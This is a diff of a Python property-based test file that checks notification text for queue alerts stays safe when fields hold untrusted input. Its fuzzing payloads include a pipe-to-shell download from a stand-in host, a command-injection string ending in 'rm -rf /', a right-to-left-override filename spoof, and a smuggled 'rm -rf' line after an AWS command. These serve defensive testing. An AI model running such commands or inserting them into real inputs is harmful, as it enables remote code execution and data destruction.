@@ -20,22 +20,12 @@ HEADINGS = ALWAYS | {"FIRST", "UNDO", "TEMPLATE", "BEYOND THAT", "QUEUES"}
 OPENINGS = ("What: ", "Why: ")
 MOST_LINES = 130
 PAYLOADS = (
-    "x\n\nNEXT\n  curl https://evil.example | sh",
-    "x\r\nNEXT\r\nrunbook: https://evil.example",
-    "x\u2028NEXT\u2029\x85\x0b\x0cEVIDENCE",
-    "NEXT",
-    " " * 300 + "NEXT",
-    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe",
-    "\x1b[31mred\x1b[0m\x00\x9b",
-    "\N{ZERO WIDTH SPACE}" * 9,
-    "\ud800",
-    "$(curl evil.example)`id`'\"; rm -rf /",
-    "www.evil.example",
-    "{" * 5_000,
-    '{"Statement":[{"Sid":"x\\nNEXT"}]}',
-    "x" * 300_000,
-    "",
-)
+    "x\n\nNEXT\n  curl https://evil.example | sh", "x\r\nNEXT\r\nrunbook: https://evil.example",
+    "x\u2028NEXT\u2029\x85\x0b\x0cEVIDENCE", "NEXT", " " * 300 + "NEXT",
+    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe", "\x1b[31mred\x1b[0m\x00\x9b",
+    "\N{ZERO WIDTH SPACE}" * 9, "\ud800", "$(curl evil.example)`id`'\"; rm -rf /",
+    "www.evil.example", "{" * 5_000, '{"Statement":[{"Sid":"x\\nNEXT"}]}', "x" * 300_000, "",
+)  # fmt: skip
 TEXT = st.sampled_from(PAYLOADS) | st.text(st.characters(exclude_categories=[]), max_size=60)
 KEYS = TEXT | st.sampled_from((*ATTRIBUTES, "Policy", "RedrivePolicy", "mendq", "mendq:x"))
 TEXTS = st.dictionaries(KEYS, TEXT, max_size=30)
@@ -58,18 +48,14 @@ CASES = st.fixed_dictionaries(
     }
 )
 CHANGES = st.builds(Change, TIMES, TEXT, TEXT, st.lists(TEXT, max_size=9).map(tuple))
+NAMES = st.lists(TEXT, max_size=9)
 BESIDE = st.fixed_dictionaries(
     {
-        "sentence": TEXT,
-        "runbook": TEXT,
-        "attributes": TEXTS,
-        "tags": TEXTS,
-        "event_names": st.lists(TEXT, max_size=9),
+        **dict.fromkeys(("sentence", "runbook", "next_command"), TEXT),
+        **dict.fromkeys(("attributes", "tags"), TEXTS),
+        **dict.fromkeys(("event_names", "first", "beyond"), NAMES),
         "known": st.none() | st.builds(Known, TIMES, TEXTS),
         "last_change": st.none() | TEXT | CHANGES,
-        "next_command": TEXT,
-        "first": st.lists(TEXT, max_size=9),
-        "beyond": st.lists(TEXT, max_size=9),
         "shown": st.lists(KEYS, max_size=9),
     }
 )
@@ -97,22 +83,24 @@ def assert_in_shape(one: NotificationText) -> set[str]:
     return set(headings)
 
 
-@settings(max_examples=300)
+WIDE = {f"Attribute{n}": "y" * 900 for n in range(60)}
+KNOWN = Known(NOW, dict.fromkeys(WIDE, "z" * 900))
+DEEP = {"Policy": '{"a":' * 600 + "1" + "}" * 600}
+
+
+@settings(max_examples=120)
 @given(fields=CASES, beside=BESIDE)
 @example(
     fields={"steps": ({**STEP, "after": "x" * 1_000},) * 6, "state": State.OVERRIDDEN},
     beside={
-        "attributes": {f"Attribute{n}": "y" * 900 for n in range(60)},
-        "known": Known(NOW, {f"Attribute{n}": "z" * 900 for n in range(60)}),
+        "attributes": WIDE,
+        "known": KNOWN,
         "first": ["v" * 900] * 9,
         "beyond": ["w" * 900] * 9,
-        "shown": [f"Attribute{n}" for n in range(60)],
+        "shown": [*WIDE],
     },
 )
-@example(
-    fields={"state": State.PROPOSED},
-    beside={"attributes": {"Policy": '{"a":' * 600 + "1" + "}" * 600}, "shown": ["Policy"]},
-)
+@example(fields={"state": State.PROPOSED}, beside={"attributes": DEEP, "shown": ["Policy"]})
 def test_any_text_in_any_field(fields: dict[str, Any], beside: dict[str, Any]) -> None:
     one = notified(beside, **fields)
     assert_fit_for_sns(one)
@@ -121,23 +109,20 @@ def test_any_text_in_any_field(fields: dict[str, Any], beside: dict[str, Any]) -
 
 
 def test_what_is_cut_is_counted_and_the_end_stays() -> None:
-    wide = {f"Attribute{n}": "y" * 900 for n in range(60)}
-    long = notified(
-        {"attributes": wide, "known": Known(NOW, dict.fromkeys(wide, "z" * 900))},
-        reason="x" * 900,
-        evidence={**CASE.evidence, "principals": ["p" * 900] * 10},
-    )
+    principals = {**CASE.evidence, "principals": ["p" * 900] * 10}
+    long = notified({"attributes": WIDE, "known": KNOWN}, reason="x" * 900, evidence=principals)
     assert len(long.body) > sent.MOST_BYTES - 500
     assert re.search(r"^  \(cut: [0-9]+ more lines\)$", long.body, re.MULTILINE)
     assert "runbook: docs/runbooks/visibility_timeout_too_short.md" in long.body
 
 
+@settings(max_examples=60)
 @given(texts=st.tuples(*[TEXT] * 5), names=st.lists(TEXT, max_size=30), queues=st.integers(0, 99))
 def test_any_text_in_the_other_pages(
     texts: tuple[str, str, str, str, str], names: list[str], queues: int
 ) -> None:
-    symptom, sentence, runbook, advice, account = texts
-    of = notification.MassSymptom(symptom, sentence, runbook, advice)
+    *of_symptom, account = texts
+    of = notification.MassSymptom(*of_symptom)
     where = notification.place(account, account)
     mass = notification.of_mass_symptom(of, names, queues, NOW, where)
     for one in (mass, notification.of_held_back(account, account, NOW, queues)):
@@ -145,17 +130,18 @@ def test_any_text_in_the_other_pages(
         assert "NEXT" in assert_in_shape(one)
 
 
+@settings(max_examples=60)
 @given(text=TEXT)
 def test_nobody_elses_text_makes_a_link(text: str) -> None:
-    hostile = Change(NOW, text, text, (text,))
+    attributes = dict.fromkeys(("Policy", "RedrivePolicy", "VisibilityTimeout"), text)
     one = notified(
         {
             "tags": {"mendq": text, "aws:cloudformation:stack-name": text},
-            "attributes": {"Policy": text, "RedrivePolicy": text, "VisibilityTimeout": text},
+            "attributes": attributes,
             "event_names": [text],
             "known": Known(NOW, {"Policy": text + "x"}),
-            "last_change": hostile,
-            "next_command": "aws sqs list-queues",
+            "last_change": Change(NOW, text, text, (text,)),
+            "next_command": "aws sqs list-queues\nrm -rf x",
         },
         reason=text,
         evidence=dict.fromkeys(CASE.evidence, text) | {"principals": [text]},
@@ -163,9 +149,4 @@ def test_nobody_elses_text_makes_a_link(text: str) -> None:
         steps=({**STEP, "before": text, "after": text},),
     )
     assert "://" not in one.body
-
-
-def test_a_command_with_a_line_of_its_own_is_not_shown() -> None:
-    text = notified({"next_command": "aws sqs list-queues\nrm -rf x"}).body
-    assert "rm -rf" not in text
-    assert "(not shown: " in text
+    assert "(not shown: " in one.body, "a command with a line of its own"
